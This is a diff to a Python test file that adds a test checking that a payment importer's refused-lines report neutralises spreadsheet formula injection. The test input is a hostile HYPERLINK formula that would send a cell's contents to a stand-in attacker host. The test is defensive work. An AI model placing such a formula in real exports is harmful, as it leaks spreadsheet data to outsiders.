@@ -2,6 +2,7 @@
 
 import io
 import json
+import re
 from pathlib import Path
 from typing import Any
 
@@ -109,6 +110,18 @@ def test_it_says_which_lines_were_refused_and_why(tmp_path: Path) -> None:
     ]
     assert "nobody" in report[1]["why"]
     assert set(Accumulation.objects.values_list("payment_id", flat=True)) == {"payment-1", "good"}
+
+
+def test_f73_its_report_opened_as_a_table_holds_no_formula(tmp_path: Path) -> None:
+    evil = '=HYPERLINK("http://evil.example/"&A1),@SUM(1)'
+    path = written(tmp_path, "payments.jsonl", lines_of(payment(client_id=evil)))
+
+    with pytest.raises(CommandError, match="1 line"):
+        run(path)
+
+    text = (tmp_path / "payments.jsonl.refused.jsonl").read_text()
+    assert evil[:10] in json.loads(text)["why"]
+    assert not [cell for cell in re.split(r'[,;"]', text) if cell.strip().startswith(("=", "+", "-", "@"))]
 
 
 def test_a_row_with_too_many_or_too_few_cells_is_refused(tmp_path: Path) -> None:
